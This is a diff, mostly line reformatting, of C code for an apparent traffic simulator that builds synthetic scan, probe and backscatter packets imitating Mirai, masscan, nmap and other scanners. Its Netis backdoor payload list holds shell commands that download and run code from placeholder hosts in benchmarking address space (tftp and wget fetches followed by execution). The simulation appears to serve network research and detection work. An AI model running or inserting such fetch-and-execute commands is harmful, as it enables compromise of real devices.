@@ -70,8 +70,8 @@ static uint32_t pseudo_sum(const tt_addr *src, const tt_addr *dst, uint8_t proto
 }
 
 /* Writes an IPv4 header (20 bytes, checksum filled). */
-static void ipv4_header(uint8_t *p, const tt_addr *src, const tt_addr *dst, uint8_t proto,
-                        uint16_t total_len, uint16_t id, uint16_t frag, uint8_t ttl)
+static void ipv4_header(uint8_t *p, const tt_addr *src, const tt_addr *dst, uint8_t proto, uint16_t total_len,
+                        uint16_t id, uint16_t frag, uint8_t ttl)
 {
     p[0] = 0x45;
     p[1] = 0;
@@ -108,10 +108,12 @@ typedef struct ip_params {
 
 /* Wraps a transport segment already written at out + header length. Returns
  * the header length used (20 or 40). */
-static uint16_t ip_header_len(const tt_addr *src) { return tt_addr_is_v4(src) ? 20 : 40; }
+static uint16_t ip_header_len(const tt_addr *src)
+{
+    return tt_addr_is_v4(src) ? 20 : 40;
+}
 
-static void finish_ip(uint8_t *out, const ip_params *ip, uint8_t proto, uint16_t l4_len,
-                      tt_sim_datagram *d)
+static void finish_ip(uint8_t *out, const ip_params *ip, uint8_t proto, uint16_t l4_len, tt_sim_datagram *d)
 {
     uint16_t hl = ip_header_len(ip->src);
     if (hl == 20)
@@ -176,8 +178,8 @@ static void build_udp(uint8_t *out, const ip_params *ip, uint16_t sport, uint16_
 }
 
 /* ICMP or ICMPv6 message: type, code, 4 bytes of "rest of header", body. */
-static void build_icmp(uint8_t *out, const ip_params *ip, uint8_t type, uint8_t code,
-                       uint32_t rest, const uint8_t *body, uint16_t body_len, tt_sim_datagram *d)
+static void build_icmp(uint8_t *out, const ip_params *ip, uint8_t type, uint8_t code, uint32_t rest,
+                       const uint8_t *body, uint16_t body_len, tt_sim_datagram *d)
 {
     bool v4 = tt_addr_is_v4(ip->src);
     uint16_t hl = ip_header_len(ip->src);
@@ -202,16 +204,18 @@ static uint8_t ttl_after(uint32_t initial, uint8_t hops)
     return (uint8_t)(initial > hops ? initial - hops : 1);
 }
 
-static uint32_t dst_v4(const tt_addr *dst) { return tt_addr_v4(dst); }
+static uint32_t dst_v4(const tt_addr *dst)
+{
+    return tt_addr_v4(dst);
+}
 
 /* ---------------------------------------------------------------- TCP SYN */
 
 static const uint8_t opt_mss[] = {0x02, 0x04, 0x05, 0xb4};
-static const uint8_t opt_windows[] = {0x02, 0x04, 0x05, 0xb4, 0x01, 0x03, 0x03, 0x08,
-                                      0x01, 0x01, 0x04, 0x02};
+static const uint8_t opt_windows[] = {0x02, 0x04, 0x05, 0xb4, 0x01, 0x03, 0x03, 0x08, 0x01, 0x01, 0x04, 0x02};
 
-void tt_sim_build_syn(tt_sim_source *s, const tt_addr *dst, uint16_t dport, tt_sim_rng *r,
-                      uint8_t *out, tt_sim_datagram *d)
+void tt_sim_build_syn(tt_sim_source *s, const tt_addr *dst, uint16_t dport, tt_sim_rng *r, uint8_t *out,
+                      tt_sim_datagram *d)
 {
     ip_params ip = {&s->addr, dst, 64, 0, false, 0};
     tcp_params t = {0, dport, 0, 0, 0x02, 0, NULL, 0};
@@ -321,10 +325,8 @@ static uint16_t payload_dns(uint8_t *p, tt_sim_rng *r)
         uint16_t type, class_;
         bool edns;
     } q[] = {
-        {"www.google.com", 1, 1, false},
-        {"isc.org", 255, 1, true},
-        {"version.bind", 16, 3, false},
-        {"", 255, 1, true},
+        {"www.google.com", 1, 1, false}, {"isc.org", 255, 1, true},
+        {"version.bind", 16, 3, false},  {"", 255, 1, true},
         {"example.com", 1, 1, false},
     };
     uint64_t x = tt_sim_rng_next(r);
@@ -376,10 +378,10 @@ static uint16_t payload_text(uint8_t *p, const char *text)
 static uint16_t payload_snmp(uint8_t *p, tt_sim_rng *r)
 {
     /* SNMPv2c GetRequest, community "public", sysDescr.0. */
-    static const uint8_t head[] = {0x30, 0x29, 0x02, 0x01, 0x01, 0x04, 0x06, 'p', 'u', 'b', 'l',
-                                   'i',  'c',  0xa0, 0x1c, 0x02, 0x04};
-    static const uint8_t tail[] = {0x02, 0x01, 0x00, 0x02, 0x01, 0x00, 0x30, 0x0e, 0x30, 0x0c, 0x06, 0x08,
-                                   0x2b, 0x06, 0x01, 0x02, 0x01, 0x01, 0x01, 0x00, 0x05, 0x00};
+    static const uint8_t head[] = {0x30, 0x29, 0x02, 0x01, 0x01, 0x04, 0x06, 'p', 'u',
+                                   'b',  'l',  'i',  'c',  0xa0, 0x1c, 0x02, 0x04};
+    static const uint8_t tail[] = {0x02, 0x01, 0x00, 0x02, 0x01, 0x00, 0x30, 0x0e, 0x30, 0x0c, 0x06,
+                                   0x08, 0x2b, 0x06, 0x01, 0x02, 0x01, 0x01, 0x01, 0x00, 0x05, 0x00};
     memcpy(p, head, sizeof head);
     put32(p + sizeof head, (uint32_t)tt_sim_rng_next(r) & 0x7fffffff);
     memcpy(p + sizeof head + 4, tail, sizeof tail);
@@ -400,7 +402,9 @@ static uint16_t payload_netis(uint8_t *p, tt_sim_rng *r)
     /* The Netis/Netcore backdoor: "AA\0\0AAAA" then a shell command. The
      * download host is in 198.18.0.0/15 (benchmarking space). */
     static const char *const commands[] = {
-        "echo ok", "ps", "cat /proc/cpuinfo",
+        "echo ok",
+        "ps",
+        "cat /proc/cpuinfo",
         "cd /tmp; tftp -g -r n.sh 198.18.7.21; sh n.sh",
         "cd /var; wget http://198.18.3.9/x86; chmod 777 x86; ./x86",
     };
@@ -433,13 +437,13 @@ static uint16_t payload_sip(uint8_t *p, const tt_sim_source *s, const tt_addr *d
                      "CSeq: 1 OPTIONS\r\n"
                      "Accept: application/sdp\r\n"
                      "Content-Length: 0\r\n\r\n",
-                     ext, d, src, (unsigned)(x >> 8) & 0xffffff, ext, d, ext, d,
-                     (unsigned)(x >> 32), (unsigned)(x >> 20) & 0xfffffff, ext, src);
+                     ext, d, src, (unsigned)(x >> 8) & 0xffffff, ext, d, ext, d, (unsigned)(x >> 32),
+                     (unsigned)(x >> 20) & 0xfffffff, ext, src);
     return n > 0 && n < 700 ? (uint16_t)n : 0;
 }
 
-static uint16_t udp_payload(uint8_t *p, const tt_sim_source *s, const tt_addr *dst,
-                            unsigned service, tt_sim_rng *r)
+static uint16_t udp_payload(uint8_t *p, const tt_sim_source *s, const tt_addr *dst, unsigned service,
+                            tt_sim_rng *r)
 {
     switch (service) {
     case TT_SIM_UDP_DNS: return payload_dns(p, r);
@@ -462,12 +466,11 @@ static uint16_t udp_payload(uint8_t *p, const tt_sim_source *s, const tt_addr *d
     }
 }
 
-void tt_sim_build_udp_service(tt_sim_source *s, const tt_addr *dst, unsigned service,
-                              tt_sim_rng *r, uint8_t *out, tt_sim_datagram *d)
+void tt_sim_build_udp_service(tt_sim_source *s, const tt_addr *dst, unsigned service, tt_sim_rng *r,
+                              uint8_t *out, tt_sim_datagram *d)
 {
     uint64_t x = tt_sim_rng_next(r);
-    ip_params ip = {&s->addr, dst, ttl_after(64, s->hops), (uint16_t)x, false,
-                    (uint32_t)(x >> 20)};
+    ip_params ip = {&s->addr, dst, ttl_after(64, s->hops), (uint16_t)x, false, (uint32_t)(x >> 20)};
     uint16_t sport = s->sport ? s->sport : (uint16_t)(1024 + (x >> 16) % 64512);
     if (service == TT_SIM_UDP_SIP)
         sport = 5060;
@@ -482,8 +485,7 @@ void tt_sim_build_udp_service(tt_sim_source *s, const tt_addr *dst, unsigned ser
 
 /* ------------------------------------------------------------------ ICMP */
 
-static void build_echo(tt_sim_source *s, const tt_addr *dst, tt_sim_rng *r, uint8_t *out,
-                       tt_sim_datagram *d)
+static void build_echo(tt_sim_source *s, const tt_addr *dst, tt_sim_rng *r, uint8_t *out, tt_sim_datagram *d)
 {
     uint64_t x = tt_sim_rng_next(r);
     bool v4 = s->family == 4;
@@ -535,32 +537,25 @@ static uint16_t pick_port(tt_sim_rng *r, const uint16_t *ports, const uint8_t *w
     return ports[0];
 }
 
-void tt_sim_build_probe(tt_sim_source *s, const tt_addr *dst, tt_sim_rng *r, uint8_t *out,
-                        tt_sim_datagram *d)
+void tt_sim_build_probe(tt_sim_source *s, const tt_addr *dst, tt_sim_rng *r, uint8_t *out, tt_sim_datagram *d)
 {
-    static const uint16_t masscan_ports[] = {80, 8080, 443, 3389, 5900, 22, 81, 8443, 6379, 9200,
-                                             8888, 21, 25, 3306, 1433, 5432, 27017, 8000, 8081, 2375};
-    static const uint8_t masscan_weights[] = {20, 12, 12, 10, 6, 8, 5, 5, 4, 4,
-                                              3,  3,  2,  3,  3, 2, 2,  3, 2, 1};
-    static const uint16_t nmap_ports[] = {22, 80, 443, 3389, 21, 23, 25, 445, 139, 135,
-                                          3306, 8080, 110, 143, 53, 111, 993, 995, 1723, 5900};
-    static const uint8_t nmap_weights[] = {12, 12, 10, 8, 6, 6, 5, 5, 4, 4,
-                                           4,  4,  3,  3, 3, 3, 2, 2, 2, 2};
-    static const uint16_t generic_ports[] = {445, 1433, 3389, 22, 80, 8080,
+    static const uint16_t masscan_ports[] = {80,   8080, 443, 3389, 5900, 22,   81,    8443, 6379, 9200,
+                                             8888, 21,   25,  3306, 1433, 5432, 27017, 8000, 8081, 2375};
+    static const uint8_t masscan_weights[] = {20, 12, 12, 10, 6, 8, 5, 5, 4, 4, 3, 3, 2, 3, 3, 2, 2, 3, 2, 1};
+    static const uint16_t nmap_ports[] = {22,   80,   443, 3389, 21, 23,  25,  445, 139,  135,
+                                          3306, 8080, 110, 143,  53, 111, 993, 995, 1723, 5900};
+    static const uint8_t nmap_weights[] = {12, 12, 10, 8, 6, 6, 5, 5, 4, 4, 4, 4, 3, 3, 3, 3, 2, 2, 2, 2};
+    static const uint16_t generic_ports[] = {445,  1433, 3389,  22,    80,   8080,
                                              3306, 5432, 37215, 52869, 7547, 5555};
     static const uint8_t generic_weights[] = {30, 20, 10, 10, 6, 5, 5, 2, 3, 3, 4, 2};
 
     switch (s->behaviour) {
-    case TT_SIM_MIRAI:
-        tt_sim_build_syn(s, dst, tt_sim_rng_below(r, 10) == 0 ? 2323 : 23, r, out, d);
-        return;
+    case TT_SIM_MIRAI: tt_sim_build_syn(s, dst, tt_sim_rng_below(r, 10) == 0 ? 2323 : 23, r, out, d); return;
     case TT_SIM_MASSCAN:
         tt_sim_build_syn(s, dst, pick_port(r, masscan_ports, masscan_weights, 20), r, out, d);
         return;
     case TT_SIM_ZMAP: tt_sim_build_syn(s, dst, s->port, r, out, d); return;
-    case TT_SIM_NMAP:
-        tt_sim_build_syn(s, dst, pick_port(r, nmap_ports, nmap_weights, 20), r, out, d);
-        return;
+    case TT_SIM_NMAP: tt_sim_build_syn(s, dst, pick_port(r, nmap_ports, nmap_weights, 20), r, out, d); return;
     case TT_SIM_GENERIC: {
         /* A worm keeps to its port; now and then the host tries another. */
         uint16_t port = s->port;
@@ -583,22 +578,27 @@ void tt_sim_build_backscatter(tt_sim_source *victim, tt_sim_backscatter kind, ui
     uint64_t x = tt_sim_rng_next(r);
     uint64_t y = tt_sim_rng_next(r);
     bool windows = victim->variant == TT_SIM_OS_WINDOWS;
-    ip_params ip = {&victim->addr, dst, ttl_after(windows ? 128 : 64, victim->hops), (uint16_t)x,
-                    !windows, 0};
+    ip_params ip = {&victim->addr, dst,      ttl_after(windows ? 128 : 64, victim->hops),
+                    (uint16_t)x,   !windows, 0};
     /* The spoofed packet's source port: whatever the flooding tool drew. */
     uint16_t spoofed_port = (uint16_t)(1024 + (x >> 16) % 64512);
     switch (kind) {
     case TT_SIM_BS_SYNACK: {
-        tcp_params t = {service, spoofed_port, (uint32_t)y, (uint32_t)(y >> 32) + 1, 0x12,
-                        windows ? 8192 : 29200, opt_mss, sizeof opt_mss};
+        tcp_params t = {service, spoofed_port,           (uint32_t)y, (uint32_t)(y >> 32) + 1,
+                        0x12,    windows ? 8192 : 29200, opt_mss,     sizeof opt_mss};
         build_tcp(out, &ip, &t, d);
         return;
     }
     case TT_SIM_BS_RST: {
         bool with_ack = (x >> 40) % 10 < 7;
-        tcp_params t = {service, spoofed_port, with_ack ? 0 : (uint32_t)y,
-                        with_ack ? (uint32_t)(y >> 32) + 1 : 0, (uint8_t)(with_ack ? 0x14 : 0x04),
-                        0, NULL, 0};
+        tcp_params t = {service,
+                        spoofed_port,
+                        with_ack ? 0 : (uint32_t)y,
+                        with_ack ? (uint32_t)(y >> 32) + 1 : 0,
+                        (uint8_t)(with_ack ? 0x14 : 0x04),
+                        0,
+                        NULL,
+                        0};
         build_tcp(out, &ip, &t, d);
         return;
     }
@@ -610,8 +610,8 @@ void tt_sim_build_backscatter(tt_sim_source *victim, tt_sim_backscatter kind, ui
         uint8_t *quote = out + 20 + 8;
         uint8_t quoted_proto = unreachable ? 17 : 6;
         uint16_t quoted_total = unreachable ? (uint16_t)(28 + (y % 512)) : 40;
-        ipv4_header(quote, dst, &victim->addr, quoted_proto, quoted_total, (uint16_t)(y >> 16),
-                    0, unreachable ? (uint8_t)(40 + (y >> 24) % 200) : 1);
+        ipv4_header(quote, dst, &victim->addr, quoted_proto, quoted_total, (uint16_t)(y >> 16), 0,
+                    unreachable ? (uint8_t)(40 + (y >> 24) % 200) : 1);
         put16(quote + 20, spoofed_port);
         put16(quote + 22, service);
         if (unreachable) {
@@ -630,8 +630,8 @@ void tt_sim_build_backscatter(tt_sim_source *victim, tt_sim_backscatter kind, ui
 
 /* ------------------------------------------------------------- odd ones */
 
-void tt_sim_build_udp_fragment(const tt_sim_source *s, const tt_addr *dst, bool first,
-                               tt_sim_rng *r, uint8_t *out, tt_sim_datagram *d)
+void tt_sim_build_udp_fragment(const tt_sim_source *s, const tt_addr *dst, bool first, tt_sim_rng *r,
+                               uint8_t *out, tt_sim_datagram *d)
 {
     /* A datagram too large for one Ethernet frame: a SIP INVITE with a fat
      * body, or an EDNS DNS message. Both fragments draw the same numbers. */
@@ -723,8 +723,8 @@ void tt_sim_build_udp_fragment(const tt_sim_source *s, const tt_addr *dst, bool 
     d->icmp_type = -1;
 }
 
-void tt_sim_build_malformed(tt_sim_source *s, const tt_addr *dst, bool allow_bad_version,
-                            tt_sim_rng *r, uint8_t *out, tt_sim_datagram *d)
+void tt_sim_build_malformed(tt_sim_source *s, const tt_addr *dst, bool allow_bad_version, tt_sim_rng *r,
+                            uint8_t *out, tt_sim_datagram *d)
 {
     uint64_t x = tt_sim_rng_next(r);
     tt_sim_build_syn(s, dst, (uint16_t)(1 + (x >> 16) % 65535), r, out, d);
